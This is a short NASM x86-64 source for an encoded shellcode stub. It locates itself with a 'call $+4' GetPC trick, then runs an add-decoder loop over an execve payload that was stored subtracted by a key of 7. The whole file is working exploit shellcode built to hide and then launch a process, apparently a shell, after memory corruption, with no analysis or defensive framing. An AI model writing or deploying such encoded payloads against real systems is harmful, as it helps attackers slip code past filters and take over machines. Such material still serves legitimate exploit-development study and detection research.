; GetPC by "call $+4": the call lands on its own last byte (0xff), which with
; the next byte is inc eax; then pop rsi has the address. An add decoder
; (sub on encode) over the execve body follows.
BITS 64
%include "xorbody.inc"
%define KEY 7
    db 0xe8, 0xff, 0xff, 0xff, 0xff ; call $+4
    db 0xc0                         ; ff c0: inc eax
    pop rsi                         ; = $$ + 5
    add rsi, body - ($$ + 5)
    push body_end - body
    pop rcx
decode:
    add byte [rsi], KEY
    inc rsi
    loop decode
body:
    subdb KEY, EXECVE64
body_end:
